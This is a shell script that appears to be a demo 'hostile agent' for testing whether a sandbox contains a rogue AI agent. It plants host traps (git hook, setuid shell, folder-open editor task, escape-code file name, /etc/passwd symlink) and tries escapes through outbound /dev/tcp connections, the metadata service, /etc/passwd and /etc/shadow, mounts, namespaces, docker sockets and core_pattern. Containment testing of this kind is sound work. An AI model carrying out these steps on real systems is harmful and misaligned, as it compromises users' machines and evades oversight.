#!/bin/sh
# The demo's hostile agent. It looks busy, plants what would hurt on the host, and
# tries to get out. Ends with the number of ways out that it found: 0 is good news.
set -u

got_out=0

# cause OUTPUT: the last words of a program's complaint.
cause() { printf '%s\n' "$1" | sed -n '1{s/.*: //;p;}'; }

# plant WHAT COMMAND...: leaves something in the workspace for the host to trip over.
plant() {
    what=$1
    shift
    if out=$("$@" 2>&1); then
        printf '  planted    %s\n' "$what"
    else
        printf '  failed     %s: %s\n' "$what" "$(cause "$out")"
    fi
}

# escape WHAT COMMAND...: tries to reach something outside.
escape() {
    what=$1
    shift
    if out=$("$@" 2>&1); then
        printf '  GOT OUT    %s\n' "$what"
        got_out=$((got_out + 1))
    else
        printf '  stopped    %s: %s\n' "$what" "$(cause "$out")"
    fi
}

hook() {
    mkdir -p .git/hooks &&
        printf '#!/bin/sh\ntouch "$HOME/owned"\n' > .git/hooks/post-checkout &&
        chmod 755 .git/hooks/post-checkout
}
setuid_shell() { cp /bin/sh build-helper && chmod 4755 build-helper; }
editor_task() {
    mkdir -p .vscode && cat > .vscode/tasks.json <<'END'
{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "prepare",
      "type": "shell",
      "command": "touch ~/owned",
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
END
}
# Shown raw, this name clears the screen and then reads "nothing to review" in green.
lying_name() { : > "$(printf 'zz\033[2J\033[H\033[32mnothing to review\033[0m')"; }

printf '\nagent> A small improvement to the README, nothing to worry about.\n'
printf '\nReleased under the same terms as the sea.\n' >> README.md

printf '\nagent> And now something for later:\n'
plant 'a git hook' hook
plant 'a symbolic link to /etc/passwd' ln -s /etc/passwd docs/accounts
plant 'a FIFO that blocks its reader' mkfifo data/queue
plant 'a set-user-id shell' setuid_shell
plant 'an editor task that runs on opening the folder' editor_task
plant 'a file name that rewrites the screen' lying_name

connect() { timeout 3 bash -c "exec 3<> /dev/tcp/$1/$2"; }
append() { sh -c "echo 'owned:x:0:0::/:/bin/sh' >> $1"; }
# see PATTERN...: whether any of these exists.
see() {
    for path; do
        if [ -e "$path" ]; then return 0; fi
    done
    echo 'nothing there'
    return 1
}
host_disk() {
    for disk in /dev/sd? /dev/vd? /dev/nvme?n?; do
        if head -c 1 "$disk" > /dev/null 2>&1; then return 0; fi
    done
    echo 'no disk in /dev'
    return 1
}
host_process() {
    if grep -qsx 'systemd\|init\|dockerd\|containerd\|podman\|conmon' /proc/[0-9]*/comm; then return 0; fi
    echo 'only my own in sight'
    return 1
}

printf '\nagent> Is there a way out of here?\n'
escape 'the internet' connect 192.0.2.1 443
escape 'the cloud metadata service' connect 169.254.169.254 80
escape 'a service on the host' connect 172.17.0.1 22
escape 'a line in /etc/passwd' append /etc/passwd
escape 'reading /etc/shadow' cat /etc/shadow
escape 'a program in /usr/bin' cp /bin/sh /usr/bin/owned
escape 'mounting a file system' mount -t tmpfs none /mnt
escape 'a user namespace of my own' unshare --user --map-root-user true
escape 'becoming root' setpriv --reuid 0 --clear-groups true
escape 'a device node' mknod /tmp/disk b 8 0
escape 'the disk of the host' host_disk
escape 'the engine socket' see /var/run/docker.sock /run/docker.sock /run/podman/podman.sock
escape 'the home directories of the host' see /host /Users /mnt/* /media/* /home/[!a]*
escape 'the processes of the host' host_process
escape 'kernel settings' sh -c 'echo 1 > /proc/sys/kernel/core_pattern'

printf '\nagent> Done: %s way(s) out.\n' "$got_out"
exit "$got_out"
